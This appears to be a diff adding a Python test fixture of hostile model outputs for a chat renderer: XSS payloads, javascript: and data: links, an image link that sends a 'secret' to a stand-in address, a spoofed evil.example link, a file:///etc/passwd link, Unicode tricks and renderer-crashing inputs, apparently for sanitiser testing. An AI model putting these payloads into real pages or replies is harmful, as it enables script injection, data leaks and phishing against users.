@@ -1,0 +1,50 @@
+"""What a model could say to make a page do something: run, ask, load, mislead or hang."""
+
+from __future__ import annotations
+
+ELSEWHERE = "http://127.0.0.2:9/"
+"""An address that nobody may be asked for."""
+
+HOSTILE = {
+    "script": f"<script>fetch('{ELSEWHERE}')</script><script src='{ELSEWHERE}'></script>",
+    "script in a fence": f"```html\n<script>alert(1); fetch('{ELSEWHERE}')</script>\n```",
+    "end of a fence in its language": "```</code></pre><script>alert(1)</script>\ncode\n```",
+    "image with a handler": "<img src=x onerror=alert(1)>",
+    "svg with a handler": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+    "svg with a script": "<svg><script>alert(1)</script></svg>",
+    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "frame": f"<iframe src='{ELSEWHERE}' srcdoc='<script>alert(1)</script>'></iframe><object data='{ELSEWHERE}'>",
+    "form": f"<form action='{ELSEWHERE}'><button autofocus onfocus=alert(1)>Continue</button></form>",
+    "base and meta": f"<base href='{ELSEWHERE}'><meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
+    "style": f"<style>@import '{ELSEWHERE}'; body {{ display: none }}</style><link rel=stylesheet href='{ELSEWHERE}'>",
+    "javascript link": "[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) <javascript:alert(1)>",
+    "javascript link in disguise": "[a](java\tscript:x) [b](&#106;avascript:x) [c]( \x01javascript:x)",
+    "data link": "[click](data:text/html,<script>alert(1)</script>) [b](data:text/html;base64,PHNjcmlwdD4=)",
+    "other schemes": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](//127.0.0.2:9/) [e](/health) [f](ftp://x/)",
+    "attribute in a link": "[a](https://x.org/\"onmouseover=\"alert(1)) [b](https://x.org 'x' onclick='alert(1)')",
+    "attribute in a title": '[a](https://example.org "x" autofocus onfocus=alert(1) ")',
+    "image that reports": f"![secret]({ELSEWHERE}?q=secret) ![x][1]\n\n[1]: {ELSEWHERE}",
+    "link that looks like another": "[https://bank.example](https://evil.example) https://bank.example@evil.example/",
+    "unclosed fence": "```python\nprint('<img src=x onerror=alert(1)>')\n\n# and no end",
+    "fences in fences": "````\n```\n<script>alert(1)</script>\n```\n````\n" + "```\n" * 301,
+    "bidirectional overrides": "safe\u202egnp.exe\u202c, \u2066x\u2069, `if (admin\u202e \u2066// check\u2069 \u2066)`",
+    "right to left": "مرحبا **بالعالم** <b>x</b>\n\n- שלום\n- [רשת](https://example.org/שלום)",
+    "zero width": "a\u200bb\u200cc\u200dd\ufeff <scr\u200bipt>alert(1)</scr\u200bipt> [x](java\u200bscript:alert(1))",
+    "control characters": "\x00\x01\x07\x08\x1b[31mred\x1b[0m\x7f\x9b<b\x00>",
+    "lone surrogates": "\ud800 and \udfff **\ud83d**",
+    "combining marks": "Z" + "\u0301\u0302\u0303" * 3000,
+    "one long line": "x" * 100_000,
+    "one long line of spaces": "a" + " " * 100_000 + "b",
+    "deep quotes": ">" * 50_000 + " text",
+    "deep lists": "\n".join("  " * depth + "- item" for depth in range(400)),
+    "list marks in a line": "- " * 30_000 + "x",
+    "deep emphasis": "*a **b " * 12_000 + "c" + "** d*" * 12_000,
+    "marks that never close": "*_~`[" * 20_000,
+    "brackets": "[" * 40_000 + "]" * 40_000 + "(" * 20_000,
+    "links that never close": "[a](http://x" * 9_000 + "![" * 5_000,
+    "backticks of every length": " ".join("`" * length for length in range(1, 440)),
+    "pipes": "|" * 50_000 + "\n" + "|-" * 1000 + "\n" + "|a" * 1000,
+    "many lines": "\n".join(["# heading", "- item", "> quote", "text", "---", ""] * 400),
+    "names of the page": "constructor __proto__ [a](https://example.org#toString) <a id=message name=thread>x</a>",
+    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7 %> <template><img src=x onerror=alert(1)>",
+}
